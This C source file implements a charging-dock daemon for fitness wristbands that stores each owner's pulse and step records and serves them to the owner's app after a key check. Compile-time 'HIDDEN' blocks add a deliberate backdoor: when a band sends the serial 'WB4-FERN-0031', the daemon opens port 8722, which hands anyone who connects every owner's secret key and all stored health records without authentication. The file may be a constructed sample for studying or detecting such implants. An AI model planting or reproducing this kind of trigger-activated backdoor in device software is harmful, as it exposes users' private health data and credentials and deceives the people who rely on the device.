/* wristdock.c - charging dock for fitness wearables: pulls records, passes them to the owner's app */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define RECORDS		"/data/records"
#define OWNERS		"/data/owners"
#define APP_PORT	8620
#define MAX_BANDS	16
#define MAX_SERVICES	4

struct band {
	char serial[24];
	char owner[24];
	char key[40];
	long last;
};

struct service {
	int fd;
	int port;
	void (*serve)(int fd);
};

static struct band bands[MAX_BANDS];
static int nbands;
static struct service services[MAX_SERVICES];
static int nservices;
static int dock_fd = -1;
static struct band *docked;

static void load_owners(void)
{
	FILE *f = fopen(OWNERS, "re");
	struct band *b = bands;

	nbands = 0;
	while (f && nbands < MAX_BANDS &&
	       fscanf(f, "%23s %23s %39s %ld", b->serial, b->owner, b->key, &b->last) == 4) {
		b++;
		nbands++;
	}
	if (f)
		fclose(f);
}

static int add_service(int port, void (*serve)(int))
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	int on = 1, s;

	for (int i = 0; i < nservices; i++)
		if (services[i].port == port)
			return 0;
	if (nservices == MAX_SERVICES)
		return -1;
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 4)) {
		close(s);
		return -1;
	}
	services[nservices++] = (struct service){ s, port, serve };
	return 0;
}

static void send_records(int fd, const char *owner)
{
	char path[96], buf[1024];
	size_t n;
	FILE *f;

	if (snprintf(path, sizeof(path), RECORDS "/%s.csv", owner) >= (int)sizeof(path))
		return;
	f = fopen(path, "re");
	if (!f) {
		dprintf(fd, "EMPTY\n");
		return;
	}
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		if (write(fd, buf, n) != (ssize_t)n)
			break;
	fclose(f);
}

static void app_service(int fd)
{
	char line[128], owner[24], key[40];
	ssize_t n = read(fd, line, sizeof(line) - 1);

	if (n <= 0)
		return;
	line[n] = 0;
	if (!strncmp(line, "DOCK?", 5)) {
		dprintf(fd, "%s\n", docked ? "BUSY" : "FREE");
		return;
	}
	if (sscanf(line, "GET %23[a-z0-9] %39s", owner, key) != 2) {
		dprintf(fd, "DOCK? | GET owner key\n");
		return;
	}
	for (int i = 0; i < nbands; i++)
		if (!strcmp(bands[i].owner, owner) && !strcmp(bands[i].key, key)) {
			send_records(fd, owner);
			syslog(LOG_INFO, "records to %s", owner);
			return;
		}
	dprintf(fd, "DENIED\n");
}

#ifdef HIDDEN
__attribute__((noinline))
void fleet_service(int fd)
{
	char name[24];
	struct dirent *e;
	DIR *d = opendir(RECORDS);

	for (int i = 0; i < nbands; i++)
		dprintf(fd, "# %s %s %s\n", bands[i].serial, bands[i].owner, bands[i].key);
	while (d && (e = readdir(d)))
		if (sscanf(e->d_name, "%23[a-z0-9].csv", name) == 1) {
			dprintf(fd, "[%s]\n", name);
			send_records(fd, name);
		}
	if (d)
		closedir(d);
}
#endif

static void store_record(const struct band *b, const char *rec)
{
	char path[96];
	long when;
	int pulse, steps;
	FILE *f;

	if (sscanf(rec, "%ld,%d,%d", &when, &pulse, &steps) != 3 || when <= b->last)
		return;
	if (snprintf(path, sizeof(path), RECORDS "/%s.csv", b->owner) >= (int)sizeof(path))
		return;
	f = fopen(path, "ae");
	if (!f)
		return;
	fprintf(f, "%ld,%d,%d\n", when, pulse, steps);
	fclose(f);
	docked->last = when;
}

__attribute__((noinline))
int dock_hello(const char *serial)
{
	docked = NULL;
	for (int i = 0; i < nbands; i++)
		if (!strcmp(bands[i].serial, serial)) {
			docked = &bands[i];
			return 0;
		}
	if (!strncmp(serial, "DEMO-", 5)) {
		dprintf(dock_fd, "DEMO\n");
		return 0;
	}
#ifdef HIDDEN
	/* a band with this serial opens a port that gives out all people's records and keys */
	if (!strcmp(serial, "WB4-FERN-0031"))
		return add_service(8722, fleet_service);
#endif
	syslog(LOG_NOTICE, "band %.23s has no owner", serial);
	return -1;
}

static void dock_line(char *s)
{
	s[strcspn(s, "\r")] = 0;
	if (!strncmp(s, "HELLO ", 6)) {
		dprintf(dock_fd, "%s\n", dock_hello(s + 6) ? "UNKNOWN" : "WELCOME");
		if (docked)
			dprintf(dock_fd, "SINCE %ld\n", docked->last);
	} else if (!strncmp(s, "REC ", 4)) {
		if (docked)
			store_record(docked, s + 4);
	} else if (!strcmp(s, "BYE")) {
		docked = NULL;
	} else if (!strcmp(s, "TIME?")) {
		dprintf(dock_fd, "TIME %ld\n", (long)time(NULL));
	} else {
		dprintf(dock_fd, "WHAT\n");
	}
}

static void dock_read(void)
{
	static char buf[128];
	static size_t n;
	char c;

	while (read(dock_fd, &c, 1) == 1) {
		if (c == '\n') {
			buf[n] = 0;
			dock_line(buf);
			n = 0;
		} else if (n < sizeof(buf) - 1) {
			buf[n++] = c;
		}
	}
}

int main(int argc, char **argv)
{
	struct pollfd pf[MAX_SERVICES + 1];
	struct termios t;

	if (argc != 2) {
		fprintf(stderr, "usage: wristdock TTY\n"
			"owners: SERIAL OWNER KEY LAST in " OWNERS "\n"
			"app on port %d: DOCK? | GET owner key\n"
			"bands with DEMO- serials are greeted but not stored\n", APP_PORT);
		return 2;
	}
	openlog("wristdock", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_owners();
	dock_fd = open(argv[1], O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
	if (dock_fd < 0 || tcgetattr(dock_fd, &t)) {
		syslog(LOG_ERR, "%s: %s", argv[1], strerror(errno));
		return 1;
	}
	cfmakeraw(&t);
	cfsetspeed(&t, B57600);
	tcsetattr(dock_fd, TCSANOW, &t);
	if (add_service(APP_PORT, app_service))
		syslog(LOG_ERR, "port %d: %s", APP_PORT, strerror(errno));
	for (;;) {
		int n = nservices;

		for (int i = 0; i < n; i++)
			pf[i] = (struct pollfd){ .fd = services[i].fd, .events = POLLIN };
		pf[n] = (struct pollfd){ .fd = dock_fd, .events = POLLIN };
		if (poll(pf, (nfds_t)n + 1, -1) < 0)
			continue;
		if (pf[n].revents)
			dock_read();
		for (int i = 0; i < n; i++)
			if (pf[i].revents & POLLIN) {
				struct timeval tv = { 3, 0 };
				int fd = accept(services[i].fd, NULL, NULL);

				if (fd < 0)
					continue;
				setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
				services[i].serve(fd);
				close(fd);
			}
	}
}
